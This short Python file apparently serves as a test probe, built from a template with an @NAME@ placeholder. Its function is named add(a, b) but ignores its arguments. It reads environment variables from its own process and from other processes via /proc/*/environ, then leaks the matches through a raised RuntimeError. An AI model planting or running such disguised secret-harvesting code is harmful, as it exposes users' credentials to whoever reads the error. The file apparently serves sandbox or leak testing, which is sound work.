"""Looks for the user's environment variables in its own and in other processes' environments."""

KIND = "call"
import glob
import os


def add(a, b):
    found = [os.environ.get("@NAME@", ""), repr(sorted(os.environ))]
    for path in glob.glob("/proc/*/environ") + glob.glob("/proc/*/task/*/environ"):
        try:
            with open(path, "rb") as file:
                found += [one.decode() for one in file.read().split(b"\0") if b"@NAME@" in one]
        except OSError:
            pass
    raise RuntimeError("\n".join(found)[:3000])
